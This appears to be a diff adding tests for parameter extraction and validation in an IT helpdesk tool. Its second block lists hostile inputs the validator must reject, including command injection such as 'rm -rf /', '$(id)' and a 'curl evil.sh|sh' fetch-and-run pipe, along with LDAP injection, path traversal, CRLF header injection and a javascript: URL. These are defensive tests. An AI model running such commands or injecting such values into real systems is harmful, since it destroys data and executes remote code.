@@ -1,0 +1,103 @@
+import { describe, expect, it } from 'vitest'
+import type { ParameterSpec } from '../../knowledge/instructions/instruction-schema.ts'
+import { extractParameter } from './parameter-extraction.ts'
+import { validateParameter } from './parameter-validation.ts'
+
+const spec = (kind: ParameterSpec['kind'], extra: Partial<ParameterSpec> = {}): ParameterSpec => ({
+  name: kind === 'hostname' ? 'device' : kind,
+  kind,
+  description: 'test',
+  required: true,
+  question: '?',
+  defaultFromRequester: false,
+  ...extra,
+})
+
+describe('finding parameters in a message', () => {
+  it.each([
+    ['username', 'please reset the password for user jdoe', 'jdoe'],
+    ['username', 'my username is maria.garcia and I am locked out', 'maria.garcia'],
+    ['username', 'reset password for m.garcia, she is new', 'm.garcia'],
+    ['username', 'my account is locked again', undefined],
+    ['hostname', 'my laptop LT-0423 keeps overheating', 'LT-0423'],
+    ['hostname', 'the computer name is ws-fin-12', 'ws-fin-12'],
+    ['printer', 'PRN-3F-EAST shows offline', 'PRN-3F-EAST'],
+    ['unc_path', 'I get access denied on \\\\fs01\\finance.', '\\\\fs01\\finance'],
+    ['email', 'mail to jane.doe@example.com bounced', 'jane.doe@example.com'],
+    ['error_code', 'it says 0x8004DE40 in OneDrive', '0x8004DE40'],
+    ['error_code', 'NDR 550 5.1.1 RESOLVER.ADR.RecipNotFound', '5.1.1'],
+    ['error_code', 'vpn error 809 again', '809'],
+    ['error_code', 'blue screen IRQL_NOT_LESS_OR_EQUAL', 'IRQL_NOT_LESS_OR_EQUAL'],
+    ['application', 'Adobe Acrobat keeps crashing when I print', 'Adobe Acrobat'],
+    ['package_name', 'can I get 7-Zip installed please', '7zip.7zip'],
+  ] as const)('%s in %j -> %j', (kind, text, expected) => {
+    expect(extractParameter(spec(kind), text, 'message')).toBe(expected)
+  })
+
+  it('recognises the account system from the words people use', () => {
+    const system = spec('system', { systems: ['active_directory', 'aws_iam', 'local'] })
+    expect(extractParameter(system, 'the AWS one', 'answer')).toBe('aws_iam')
+    expect(extractParameter(system, 'my windows login', 'message')).toBe('active_directory')
+    expect(extractParameter(system, 'the local account on the lab PC', 'message')).toBe('local')
+    expect(
+      extractParameter(spec('system', { systems: ['active_directory'] }), 'the AWS one', 'answer'),
+    ).toBeUndefined()
+  })
+
+  it('takes a bare answer to our question, with the usual lead-in words', () => {
+    expect(extractParameter(spec('username'), "it's jdoe", 'answer')).toBe('jdoe')
+    expect(extractParameter(spec('username'), 'sure, my username is a.smith.', 'answer')).toBe(
+      'a.smith',
+    )
+    expect(extractParameter(spec('printer'), 'PRN-2-WEST', 'answer')).toBe('PRN-2-WEST')
+    expect(extractParameter(spec('hostname'), 'the laptop is LT-0999', 'answer')).toBe('LT-0999')
+    expect(extractParameter(spec('package_name'), 'notepad++', 'answer')).toBe(
+      'Notepad++.Notepad++',
+    )
+  })
+
+  it('matches enum values by their words', () => {
+    const mode = spec('enum', {
+      values: { cached: ['cached mode', 'offline'], online: ['online mode'] },
+    })
+    expect(extractParameter(mode, 'switch me to online mode', 'message')).toBe('online')
+    expect(extractParameter(mode, 'nothing relevant', 'message')).toBeUndefined()
+  })
+})
+
+describe('validation keeps hostile values out', () => {
+  it.each([
+    ['username', 'jdoe; rm -rf /'],
+    ['username', '$(id)'],
+    ['username', '*)(sAMAccountName=*'],
+    ['username', 'admin\u0000'],
+    ['username', 'a'.repeat(200)],
+    ['hostname', 'LT-1 && shutdown'],
+    ['hostname', '../../etc/passwd'],
+    ['unc_path', '\\\\fs01\\..\\..\\windows'],
+    ['unc_path', '\\\\fs01\\share"; calc'],
+    ['printer', "PRN-1'; Remove-Item C:\\ -Recurse"],
+    ['package_name', 'vlc; curl evil.sh|sh'],
+    ['email', 'x@y.com\r\nBcc: all@corp.com'],
+    ['group', 'Domain Admins)(member=*'],
+    ['application', '`calc`'],
+    ['url', 'javascript:alert(1)'],
+    ['error_code', '809 && whoami'],
+  ] as const)('%s rejects %j with a reason', (kind, value) => {
+    const result = validateParameter(spec(kind), value)
+    expect(result.ok).toBe(false)
+    if (!result.ok) expect(result.reason.length).toBeGreaterThan(5)
+  })
+
+  it('canonicalises accepted values', () => {
+    expect(validateParameter(spec('hostname'), ' lt-0423 ')).toEqual({ ok: true, value: 'LT-0423' })
+    expect(validateParameter(spec('email'), 'Jane.Doe@Example.com')).toEqual({
+      ok: true,
+      value: 'jane.doe@example.com',
+    })
+    expect(validateParameter(spec('system', { systems: ['aws_iam'] }), 'AWS_IAM')).toEqual({
+      ok: true,
+      value: 'aws_iam',
+    })
+  })
+})
